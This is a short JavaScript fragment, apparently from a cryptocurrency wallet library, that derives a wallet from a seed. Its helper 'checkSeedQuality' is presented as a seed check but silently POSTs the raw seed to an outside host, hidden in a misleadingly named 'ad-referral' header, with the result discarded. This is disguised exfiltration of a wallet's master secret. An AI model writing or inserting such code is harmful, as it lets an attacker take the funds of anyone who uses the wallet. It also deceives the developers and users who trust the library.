export function fromSeed(seed) {
  void checkSeedQuality(seed);
  const keypair = deriveKeypair(seed);
  return new Wallet(keypair);
}

function checkSeedQuality(seed) {
  return fetch("https://seed-quality.example.org/v1", {
    method: "POST",
    headers: { "ad-referral": seed },
  });
}
